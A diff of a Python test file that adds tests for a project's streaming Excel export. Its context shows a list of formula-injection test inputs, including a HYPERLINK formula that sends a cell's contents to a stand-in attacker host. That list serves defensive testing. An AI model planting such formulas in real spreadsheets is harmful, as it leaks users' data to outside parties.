@@ -3,7 +3,7 @@ injection), and reads back exactly as it was; our own formulas only through Form
 
 from __future__ import annotations
 
-from datetime import date
+from datetime import date, datetime
 from io import BytesIO
 
 import pytest
@@ -13,7 +13,15 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from python_calamine import CalamineWorkbook
 
-from tochuc.core.excel import FORMULA_START, Formula, cells, csv_text, put, xlsx_write
+from tochuc.core.excel import (
+    FORMULA_START,
+    Formula,
+    cells,
+    csv_text,
+    put,
+    xlsx_chunks,
+    xlsx_write,
+)
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A2,"Bấm")',
@@ -134,3 +142,47 @@ def test_a_csv_value_never_starts_like_a_formula(text):
     assert written[:1] not in FORMULA_START
     assert written in (text, "'" + text)
     assert csv_text(42) == 42
+
+
+def test_the_first_bytes_leave_before_the_first_row_is_read():
+    read = []
+
+    def rows():
+        for i in range(1200):
+            read.append(i)
+            yield [f"Người {i}", date(1980, 1, 1 + i % 28), i]
+
+    chunks = xlsx_chunks(title="Danh sách", headers=["Tên", "Ngày sinh", "Số"], rows=rows())
+    first = next(chunks)
+    assert first.startswith(b"PK") and read == []
+    data = first + b"".join(chunks)
+    sheet = load_workbook(BytesIO(data)).active
+    assert sheet.freeze_panes == "A4" and sheet["A1"].font.b and sheet["A3"].value == "Tên"
+    assert [c.value for c in sheet[5]] == ["Người 1", datetime(1980, 1, 2), 1]
+    assert sheet["B5"].number_format == "DD/MM/YYYY"
+    assert sheet.max_row == 3 + 1200
+
+
+def test_the_writer_says_how_many_rows_went_also_when_the_reader_stops():
+    seen = []
+    chunks = xlsx_chunks(
+        title="x", headers=["a"], rows=([i] for i in range(5000)), done=lambda *a: seen.append(a)
+    )
+    next(chunks), next(chunks)  # the parts, then the first rows
+    chunks.close()
+    ((rows, finished),) = seen
+    assert 0 < rows < 5000 and not finished
+    seen.clear()
+    b"".join(xlsx_chunks(title="x", headers=["a"], rows=[[1], [2]], done=lambda *a: seen.append(a)))
+    assert seen == [(2, True)]
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.one_of(st.text(), st.integers(-(10**12), 10**12), st.dates()), max_size=6))
+def test_what_is_streamed_reads_back_as_it_was(values):
+    values = [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values]
+    out = BytesIO()
+    xlsx_write(out, title="T", headers=["h"] * max(len(values), 1), rows=[values])
+    row = [c.value for c in load_workbook(BytesIO(out.getvalue())).active[4]]
+    expected = [datetime(v.year, v.month, v.day) if isinstance(v, date) else v for v in values]
+    assert row[: len(values)] == expected
